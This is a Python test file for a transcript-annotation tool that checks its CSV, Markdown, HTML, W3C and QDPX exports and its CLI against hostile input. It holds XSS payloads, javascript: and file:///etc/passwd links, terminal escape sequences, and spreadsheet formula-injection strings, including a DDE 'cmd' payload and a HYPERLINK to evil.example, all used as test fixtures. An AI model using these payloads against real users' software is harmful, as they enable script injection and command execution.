"""Issue 12, the output half: no export of a library holding hostile strings yields a
formula cell, a remote or `javascript:` destination, raw HTML, or a control
sequence — checked by parsing each export the way its readers do (csv; CommonMark
and Python-Markdown; an HTML tokenizer; zip + XML; JSON), and the CLI prints no
control character.

The library is built the way a user's is: a transcript whose title, show and text
carry terminal escapes, bidi overrides, markup and formulas; annotations made with
the library API; and a hostile W3C file merged with `aiviewer import-annotations`
(formula ids, times and sources, `aiviewer:colour` payloads)."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from html.parser import HTMLParser

import markdown as python_markdown
import pytest
from markdown_it import MarkdownIt

pytest.importorskip("aiviewer.ingest.labelled")

from growth_check import LINEAR, growth  # noqa: E402

from aiviewer.cli import main  # noqa: E402
from aiviewer.errors import AiviewerError  # noqa: E402
from aiviewer.export import csv_export, safe_markdown  # noqa: E402
from aiviewer.library import Library  # noqa: E402

ESC = "\x1b[31mred\x1b[0m"
OSC8 = "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"
BIDI = "\u202eevil"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak","click")'

TRANSCRIPT = (
    "---\n"
    f'title: "RL talk {ESC} {OSC8} {BIDI} <b>bold</b>"\n'
    f'show: "{HYPERLINK.replace(chr(34), chr(92) + chr(34))} \x1b[2J show"\n'
    "url: https://www.youtube.com/watch?v=abcdefghijk\n"
    "---\n\n"
    "Nathan Lambert: The interesting thing about GRPO is that it drops the value model "
    "entirely.\n"
    "Ross Taylor: Yes, and =SUM(A1:A9) the group baseline does the work of the critic.\n"
    "Nathan Lambert: And DPO is a different story, no reward model at all.\n"
    "Ross Taylor: Right, DPO optimises preferences directly.\n")

HOSTILE_NOTE = f"""Why? {SCRIPT} {IMG} {ESC} {OSC8} {BIDI}

![x][r] and ![pixel] and [j][js] and [f][file] and ![inline](https://t.example/p.gif)
[bad](javascript:alert(1)) [enc](&#106;avascript:alert(1)) [ang](<javascript:alert(1)>)
[rel](/etc/passwd) [v](VBScript:msgbox(1)) [d](data:text/html;base64,PHNjcmlwdD4=)

[r]: https://t.example/pixel.png
[pixel]: https://t.example/pixel2.png
[js]: javascript:alert(1)
[file]: file:///etc/passwd

> [q]: data:text/html,{SCRIPT}
> [quoted][q] and ![quoted image][q]

\\`{IMG}\\`

~~~
{SCRIPT}
~~~

<div onclick="alert(4)">block</div>

<https://ok.example/auto> <javascript:alert(5)> [ok](https://ok.example/page) `code <b>`
"""

BAD_COLOURS = ("#fff' onload='alert(1)", "red'><img src='file:///etc/passwd'>",
               '"><img src=file:///etc/passwd>', "#12345g", "url(file:///etc/passwd)")

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e"
                     "\u2066-\u2069]")
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
SAFE_DEST = re.compile(r"^(https?://|mailto:|#)", re.I)
COLOUR = re.compile(r"#[0-9a-f]{6}")


def _w3c_file(episode_id: str) -> dict:
    def note(value):
        return {"type": "TextualBody", "purpose": "commenting", "format": "text/markdown",
                "value": value}

    def tag(value, colour):
        return {"type": "TextualBody", "purpose": "tagging", "value": value,
                "aiviewer:colour": colour}

    return {"@context": "http://www.w3.org/ns/anno.jsonld", "type": "AnnotationCollection",
            "first": {"type": "AnnotationPage", "items": [
                {"id": HYPERLINK, "type": "Annotation", "created": HYPERLINK,
                 "modified": "+cmd|' /C calc'!A0", "aiviewer:colour": BAD_COLOURS[0],
                 "body": [note(HOSTILE_NOTE), tag(f"imported {OSC8}", BAD_COLOURS[1])],
                 "target": {"source": HYPERLINK, "selector": [
                     {"type": "TextQuoteSelector", "exact": f"@SUM(1+1) {ESC} {SCRIPT}"}]}},
                {"id": "-2+3", "type": "Annotation", "created": "\uff1dHYPERLINK(1)",
                 "modified": "\t=1+1", "aiviewer:colour": BAD_COLOURS[2],
                 "body": [note(f"[x][y]\n\n[y]: javascript:alert(1)\n\n{IMG}"),
                          tag("=cmd|' /C calc'!A0", BAD_COLOURS[3]),
                          tag("imported/ok", "#ABC")],
                 "target": {"source": "urn:aiviewer:episode:" + episode_id, "selector": [
                     {"type": "TextQuoteSelector", "exact": "the group baseline"}]}},
            ]}}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """(data dir, library, episode id, export folder) of a library full of hostile text."""
    tmp = tmp_path_factory.mktemp("hostile")
    src = tmp / "talk.md"
    src.write_text(TRANSCRIPT, encoding="utf-8")
    lib = Library(tmp / "lib")
    assert not lib.import_paths([src]).value.failed
    [e] = lib.episodes()
    # the import drops terminal escapes and bidi overrides from transcripts; what the
    # exports must still neutralise arrives through notes, tags and annotation imports
    assert "\x1b" not in e.title and "\u202e" not in e.title and "[31mred" in e.title
    ep = lib.episode(e.id)
    at = ep.text.index("drops the value model")
    lib.annotate(ep.id, at, at + 21, note_md=HOSTILE_NOTE,
                 tags=[HYPERLINK, f"esc{ESC}/x", IMG, BIDI, "-1"])
    at = ep.text.index("=SUM(A1:A9)")
    lib.annotate(ep.id, at, at + 11, note_md=f"{ESC} plain", tags=["@at"])
    for bad in BAD_COLOURS:
        with pytest.raises(AiviewerError):
            lib.set_tag_colour("@at", bad)
    w3c_file = tmp / "hostile.jsonld"
    w3c_file.write_text(json.dumps(_w3c_file(ep.id)), encoding="utf-8")
    lib.close()
    assert main(["--data-dir", str(tmp / "lib"), "import-annotations", str(w3c_file)]) == 0
    lib = Library(tmp / "lib")
    assert len(lib.annotations()) == 4
    out = tmp / "out"
    out.mkdir()
    for fmt in Library.EXPORT_FORMATS:
        lib.export_annotations(fmt, out / f"export.{fmt}")
    yield tmp / "lib", lib, ep.id, out
    lib.close()


def test_the_store_keeps_only_valid_colours(hostile):
    _, lib, _, _ = hostile
    assert all(COLOUR.fullmatch(t.colour) for t in lib.tags())
    assert {t.name: t.colour for t in lib.tags()}["imported/ok"] == "#aabbcc"
    assert all(a.colour is None or COLOUR.fullmatch(a.colour) for a in lib.annotations())


# --- CSV ------------------------------------------------------------------------------


def test_csv_has_no_formula_and_no_control(hostile):
    *_, out = hostile
    text = (out / "export.csv").read_text(encoding="utf-8")
    assert not CONTROL.search(text.replace("\r\n", "\n"))
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows[1:] for c in row]
    assert all(not c.startswith(FORMULA) for c in cells), \
        [c for c in cells if c.startswith(FORMULA)]
    assert "'" + HYPERLINK in cells  # the imported id, kept readable
    assert "'+cmd|' /C calc'!A0" in cells and "'\uff1dHYPERLINK(1)" in cells
    assert "'-2+3" in cells


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\n=1"), ("\uff1d1+1", "'\uff1d1+1"), ("\uff20x", "'\uff20x"),
    ("\x1b=1", "'=1"), ("\u202e=1", "'=1"), ("2026-11-23T09:27:44+00:00",
                                            "2026-11-23T09:27:44+00:00"),
    ("0f8fad5b-d9cb-469f-a165-70867728950e", "0f8fad5b-d9cb-469f-a165-70867728950e"),
    ("plain", "plain"), ("", ""), (None, "")])
def test_csv_cell_rule(value, cell):
    assert csv_export.cell(value) == cell


# --- Markdown -------------------------------------------------------------------------

_MD_TAGS = {"p", "em", "strong", "a", "code", "pre", "blockquote", "ul", "ol", "li", "hr",
            "br", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th",
            "td", "dl", "dt", "dd", "sup", "div", "abbr"}


class _Page(HTMLParser):
    """Every start tag and its attributes, as a browser's tokenizer sees them."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def _tags(html: str) -> list[tuple[str, dict]]:
    p = _Page()
    p.feed(html)
    p.close()
    return p.tags


def markdown_problems(text: str) -> list[str]:
    """What CommonMark (markdown-it-py, accepting any link as a lax viewer would) and
    Python-Markdown (plain and with `extra`) make of `text` that must not be there."""
    problems = []
    if CONTROL.search(text):
        problems.append(f"control character {CONTROL.search(text).group()!r}")
    cm = MarkdownIt("commonmark")
    cm.validateLink = lambda url: True
    stack = list(cm.parse(text))
    while stack:
        tok = stack.pop()
        stack += tok.children or ()
        if tok.type in ("html_block", "html_inline"):
            problems.append(f"CommonMark raw HTML {tok.content!r}")
        if tok.type == "image":
            problems.append(f"CommonMark image {tok.attrGet('src')!r}")
        if tok.type == "link_open" and not SAFE_DEST.match(str(tok.attrGet("href"))):
            problems.append(f"CommonMark link {tok.attrGet('href')!r}")
    for extensions in ([], ["extra"]):
        md = python_markdown.Markdown(extensions=extensions)
        html = md.convert(text)
        raw = [s for s in md.htmlStash.rawHtmlBlocks
               if not re.fullmatch(r"&(#\d+|#x[0-9a-f]+|\w+);", str(s), re.I)]
        problems += [f"Python-Markdown{extensions} raw HTML {s!r}" for s in raw]
        for tag, attrs in _tags(html):
            if tag not in _MD_TAGS:
                problems.append(f"Python-Markdown{extensions} <{tag}>")
            for name, value in attrs.items():
                if name.startswith("on") or name in ("src", "style"):
                    problems.append(f"Python-Markdown{extensions} {name}={value!r}")
                if name == "href" and not SAFE_DEST.match((value or "").strip()):
                    problems.append(f"Python-Markdown{extensions} href={value!r}")
    return problems


def test_markdown_export_parses_to_nothing_hostile(hostile):
    *_, out = hostile
    text = (out / "export.markdown").read_text(encoding="utf-8")
    assert markdown_problems(text) == []
    # what was neutralised is still there, as text or as a plain link
    assert "https://t.example/pixel.png" in text and "Why?" in text
    assert "RL talk" in text and "&lt;b&gt;bold" in text


@pytest.mark.parametrize("note", [
    "![x][r]\n\n[r]: https://t.example/pixel.png",
    "![r]\n\n[r]: https://t.example/pixel.png",
    "![x][]\n\n[x]: <https://t.example/pixel.png>",
    "[j][r]\n\n[r]: javascript:alert(1)",
    "[j]\n\n[j]:\n  javascript:alert(1)",
    "- [j][r]\n\n  [r]: javascript:alert(1)",
    "> [j][r]\n>\n> [r]: javascript:alert(1)",
    "[a](&#106;avascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a]( \n javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](data:text/html,x) [d](/etc/passwd)",
    "![a ![b](c)](d)",
    "[![img](https://x.example/p.png)](https://ok.example)",
    "\\`<img src=x onerror=alert(1)>\\`",
    "\\\\![x](https://t.example/p.png)",
    "~~~\n<script>alert(1)</script>\n~~~",
    "```\nfoo\n\n<script>alert(1)</script>\n```",
    "- item\n\n```\n<b>x</b>\n```",
    "<div>\n<script>alert(1)</script>\n</div>",
    "<javascript:alert(1)> <me@example.org> <https://ok.example>",
    "a\x1b[31m!\x1b[0m[x](https://t.example/p.png)",
    "!\u202e[x](https://t.example/p.png)",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "`` ` `` <b>x</b>",
    "x <!-- comment --> y <?php ?> <![CDATA[ z ]]>",
])
def test_markdown_note_rule(note):
    assert markdown_problems(safe_markdown.to_markdown(note)) == []


def test_ordinary_notes_are_kept_as_written():
    note = ("Why *GRPO*? See [the paper](https://arxiv.org/abs/2402.03300) and "
            "[wiki](https://en.wikipedia.org/wiki/A_(b)).\n\n- one\n- two\n\n`x < y`")
    assert safe_markdown.to_markdown(note) == note.replace("- one", "- one")
    assert safe_markdown.to_markdown("![p](https://t.example/p.png)") == \
        "[image: p](https://t.example/p.png)"
    assert safe_markdown.to_markdown("[a](javascript:alert(1))") == "[a](#alert(1))"


# --- HTML -----------------------------------------------------------------------------

_PAGE_TAGS = {"html", "head", "meta", "title", "style", "body", "section", "article",
              "blockquote", "span", "strong"} | _MD_TAGS


def test_html_export_loads_and_runs_nothing(hostile):
    *_, out = hostile
    page = (out / "export.html").read_text(encoding="utf-8")
    assert not CONTROL.search(page)
    tags = _tags(page)
    assert {t for t, _ in tags} <= _PAGE_TAGS, {t for t, _ in tags} - _PAGE_TAGS
    for tag, attrs in tags:
        for name, value in attrs.items():
            assert not name.startswith("on") and name != "src", (tag, name, value)
            if name == "href":
                assert SAFE_DEST.match(value), value
            if name == "style":
                assert re.fullmatch(r"--colour: #[0-9a-f]{6}", value), value
            if name == "class":
                assert re.fullmatch(r"[a-z ]+", value), value
    assert any(a.get("http-equiv") == "Content-Security-Policy" for t, a in tags if t == "meta")
    assert "&lt;script&gt;" in page


# --- W3C and QDPX: lossless data, nothing raw in the file -----------------------------


def test_w3c_export_carries_data_but_no_raw_control(hostile):
    *_, out = hostile
    text = (out / "export.w3c").read_text(encoding="utf-8")
    assert not CONTROL.search(text)  # ESC, C1 and bidi are \uXXXX escapes
    doc = json.loads(text)
    items = doc["first"]["items"]
    assert any("\x1b" in (b.get("value") or "") for i in items for b in i.get("body", []))
    for item in items:
        assert "aiviewer:colour" not in item or COLOUR.fullmatch(item["aiviewer:colour"])
        for body in item.get("body", []):
            assert "aiviewer:colour" not in body or COLOUR.fullmatch(body["aiviewer:colour"])


def test_qdpx_export_has_valid_colours_and_no_raw_control(hostile):
    *_, out = hostile
    with zipfile.ZipFile(out / "export.qdpx") as z:
        qde = z.read("project.qde").decode("utf-8")
        sources = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("sources/")]
    assert not CONTROL.search(qde)  # C1 and bidi are character references
    assert sources and not any(CONTROL.search(s) for s in sources)
    root = ET.fromstring(qde.encode("utf-8"))
    for el in root.iter():
        for name, value in el.attrib.items():
            assert "\x1b" not in value
            if name == "color":
                assert COLOUR.fullmatch(value), value
        assert "\x1b" not in (el.text or "")


# --- the terminal ---------------------------------------------------------------------


@pytest.mark.parametrize("argv", [
    ["list"], ["show", "RL talk"], ["annotations"], ["tags"], ["search", "GRPO"],
    ["search", "baseline"], ["entities"], ["export", "--format", "markdown"],
    ["export", "--format", "csv"], ["export", "--format", "html"],
    ["export", "--format", "w3c"], ["show", "\x1b[2Jnope"], ["about"]])
def test_cli_prints_no_control_character(hostile, capsys, argv):
    data_dir, *_ = hostile
    main(["--data-dir", str(data_dir), *argv])
    got = capsys.readouterr()
    for stream in (got.out, got.err):
        assert not CONTROL.search(stream), (argv, CONTROL.search(stream).group())
    if argv in (["list"], ["show", "RL talk"]):
        assert "RL talk [31mred[0m" in got.out  # the text stays, the ESC does not


@pytest.mark.parametrize(("unit", "count"), [("![", 100_000), ("[", 100_000), ("](", 100_000),
                                           ("[a]: javascript:x\n", 5_000), ("`a", 100_000)])
def test_notes_with_many_brackets_stay_fast_and_safe(unit, count):
    def at(k: int):
        return lambda: (safe_markdown.to_markdown(unit * k), safe_markdown.to_html(unit * k))
    assert growth(at, count // 8, runs=1) < LINEAR
    note = unit * count
    md, html = safe_markdown.to_markdown(note), safe_markdown.to_html(note)
    assert not any(t == "img" for t, _ in _tags(html))
    if len(md) < 50_000:  # the parsers themselves are slow on the longest ones
        assert markdown_problems(md) == []
